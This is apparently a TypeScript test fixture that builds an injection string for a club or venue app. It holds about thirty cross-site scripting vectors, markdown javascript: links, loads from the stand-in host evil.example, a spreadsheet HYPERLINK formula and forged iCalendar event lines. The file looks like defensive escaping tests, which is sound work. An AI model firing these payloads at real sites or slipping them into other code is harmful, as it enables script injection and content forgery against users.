/** Scripts, tags, links and formulas that a text of a club may hold, each of which some program somewhere would obey. */
const SCRIPTS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=https://evil.example/a.png>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '"><script>alert(1)</script>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  ']]><script>alert(1)</script><![CDATA[',
  '--><script>alert(1)</script><!--',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what another language may take for a place to fill
  '${alert(1)} {{alert(1)}} {alert(1)} $& $1 $`',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '![x](https://evil.example/pixel.png)',
];

/** Text that another line, event, entry or cell would begin with. */
export const FORGED_LINES = '\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged\nEND:VEVENT\nvenue is clean: 3 pegs';

let fields = 0;

/** Everything above in one text, with a number of its own; what it begins with is a formula to a spreadsheet. */
export function payload(): string {
  return `=HYPERLINK("https://evil.example/","field${++fields}") ${SCRIPTS.join(' ')}`;
}
